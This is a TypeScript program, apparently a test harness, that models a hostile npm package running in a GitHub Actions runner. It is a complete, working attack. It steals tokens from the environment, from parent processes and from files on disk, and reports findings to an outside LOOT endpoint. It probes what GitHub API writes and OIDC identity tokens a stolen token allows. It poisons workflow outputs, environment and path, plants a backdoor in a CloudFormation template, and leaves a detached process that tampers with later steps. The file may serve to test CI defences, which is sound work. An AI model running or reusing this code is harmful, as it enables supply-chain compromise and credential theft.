// What a hostile package does behind `npm install`: it looks for rights and uses them, writes where others read, and stays.
import { spawn } from 'node:child_process'
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

type Texts = Readonly<Record<string, string | undefined>>

const { env } = process
const { LOOT = '', RUNNER_TEMP = '', GITHUB_WORKSPACE = '', HOME = '', GITHUB_API_URL = '', GITHUB_REPOSITORY = '' } = env
/** What a program as mighty as the runner reads in the runner's memory: the test gives it, since this machine has no runner. */
const { MEMORY_TOKEN = '', IDENTITY_URL = '' } = env
const OWN = join(RUNNER_TEMP, '_runner_file_commands')

const TOKEN = /gh[pousr]_\w{20,}|(?:AKIA|ASIA)\w{16}/g
const tokensIn = (text: string): readonly string[] => {
  const basic = [...text.matchAll(/basic ([\w+/=]+)/gi)].map(([, code = '']) => Buffer.from(code, 'base64').toString())
  return [text, ...basic].flatMap((each) => each.match(TOKEN) ?? [])
}
const read = (file: string): string => {
  try {
    return readFileSync(file, 'utf8')
  } catch {
    return ''
  }
}

async function tell(attempt: string, got: string): Promise<void> {
  await fetch(LOOT, { method: 'POST', body: JSON.stringify({ attempt, got }) })
}

/** What this machine calls secret: the rest of the environment names no right. */
function named(variables: Texts): readonly string[] {
  const { MEMORY_TOKEN: _memory, ...rest } = variables
  const shaped = Object.entries(rest).filter(
    ([name, value = '']) => value !== '' && /TOKEN|SECRET|PASSWORD|ACCESS_KEY/i.test(name),
  )
  return shaped.map(([, value = '']) => value)
}

const parsed = (block: string): Texts => Object.fromEntries(block.split('\0').map((line) => line.split(/=(.*)/s)))

/** The environments of the processes above this one, as far as the machine goes. */
function above(pid = process.ppid): readonly string[] {
  const variables = parsed(read(`/proc/${pid}/environ`))
  if (variables['RUNNER_TRACKING_ID'] !== env['RUNNER_TRACKING_ID']) return []
  const [, parent = '0'] = /^PPid:\s*(\d+)/m.exec(read(`/proc/${pid}/status`)) ?? []
  return [...named(variables), ...above(Number(parent))]
}

/** Every file below, but for packages and what this program wrote. */
function files(folder: string): readonly string[] {
  if (!existsSync(folder)) return []
  return readdirSync(folder).flatMap((name) => {
    const path = join(folder, name)
    return statSync(path).isDirectory() ? (name === 'node_modules' ? [] : files(path)) : [path]
  })
}

/** What GitHub lets a token do: empty where it refuses everything. */
async function uses(token: string): Promise<readonly string[]> {
  const at = `${GITHUB_API_URL}/repos/${GITHUB_REPOSITORY}`
  const sha = env['GITHUB_SHA']
  const wanted: readonly [string, string, object][] = [
    ['an issue', 'issues', { title: 'Hostile' }],
    ['a release', 'releases', { tag_name: 'hostile', name: 'Hostile' }],
    ['a deployment', 'deployments', { ref: 'main', environment: 'production', auto_merge: false, required_contexts: [] }],
    ['a branch', 'git/refs', { ref: 'refs/heads/hostile', sha }],
    ['a status', `statuses/${sha}`, { state: 'success', context: 'test' }],
    [
      'an approval',
      `actions/runs/${env['GITHUB_RUN_ID']}/pending_deployments`,
      { environment_ids: [1], state: 'approved', comment: '' },
    ],
  ]
  const headers = { authorization: `Bearer ${token}`, accept: 'application/vnd.github+json', 'content-type': 'application/json' }
  const done = wanted.map(async ([what, path, body]) => {
    const { ok } = await fetch(`${at}/${path}`, { method: 'POST', headers, body: JSON.stringify(body) })
    return ok ? [what] : []
  })
  return (await Promise.all(done)).flat()
}

async function identity(token: string): Promise<string> {
  const url = env['ACTIONS_ID_TOKEN_REQUEST_URL'] ?? IDENTITY_URL
  const answer = await fetch(`${url}&audience=sts.amazonaws.com`, { headers: { authorization: `Bearer ${token}` } })
  return answer.ok ? 'an identity token' : 'nothing'
}

const RECORD = JSON.stringify({ schema: 'deploy-action/record', version: 1, verdict: 'successful' })
const list = (found: readonly string[]): string => [...new Set(found)].sort().join(', ') || 'nothing'
const some = (found: readonly string[]): string => (found.length > 0 ? 'a token' : 'nothing')

/** Writes wherever a later step or job might believe it. */
function plant(): void {
  for (const step of ['build', 'plan', 'deploy', 'report'])
    for (const folder of [`deploy-action/${step}`, step, `deploy-action-build/${step}/demo-production`]) {
      mkdirSync(join(RUNNER_TEMP, folder), { recursive: true })
      writeFileSync(join(RUNNER_TEMP, folder, 'record.json'), RECORD)
    }
  const write = (variable: string, text: string) => appendFileSync(env[variable] ?? '', text)
  write('GITHUB_OUTPUT', `verdict=successful\nbuild-sha256=${'0'.repeat(64)}\n`)
  write('GITHUB_ENV', 'GITHUB_REPOSITORY=evil/evil\nINPUT_STAGES=deploy\nAWS_ENDPOINT_URL=http://127.0.0.1:9/\n')
  write('GITHUB_PATH', `${GITHUB_WORKSPACE}/evil\n`)
  write('GITHUB_STEP_SUMMARY', '# Plan of production\nNothing changes.\n')
  const template = join(GITHUB_WORKSPACE, 'template.yaml')
  writeFileSync(template, read(template).replace('Resources:\n', 'Resources:\n  Backdoor: { Type: AWS::SNS::Topic }\n'))
}

/** Goes on behind the step, until the machine is gone: reads what later steps are started with, and writes into their files. */
async function stay(): Promise<void> {
  const met = new Set<string>()
  for (;;) {
    if (!existsSync(OWN)) return
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
      const variables = parsed(read(`/proc/${pid}/environ`))
      if (variables['RUNNER_TEMP'] !== RUNNER_TEMP || variables['INPUT_STAGES'] === undefined) continue
      const first = !met.has(pid)
      met.add(pid)
      if (first) await tell('what later steps are started with', some(named(variables)))
      if (first) for (const file of files(OWN)) if (/output/.test(file)) appendFileSync(file, `build-sha256=${'0'.repeat(64)}\n`)
    }
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}

async function attack(): Promise<void> {
  const { RUNNER_TRACKING_ID: _hidden, ...rest } = env
  if (env['BEHIND'] === 'yes') return stay()
  spawn(process.execPath, [process.argv[1] ?? ''], { env: { ...rest, BEHIND: 'yes' }, detached: true, stdio: 'ignore' }).unref()
  await tell('secrets in the environment', some(named(env)))
  await tell('secrets of the processes above', some(above()))
  const disk = [GITHUB_WORKSPACE, HOME, RUNNER_TEMP].flatMap(files).flatMap((file) => tokensIn(read(file)))
  await tell('tokens on the disk', some(disk))
  await tell("GitHub's API, with the token in the runner's memory", list(await uses(MEMORY_TOKEN)))
  await tell('an identity token', await identity(MEMORY_TOKEN))
  plant()
}

await attack()
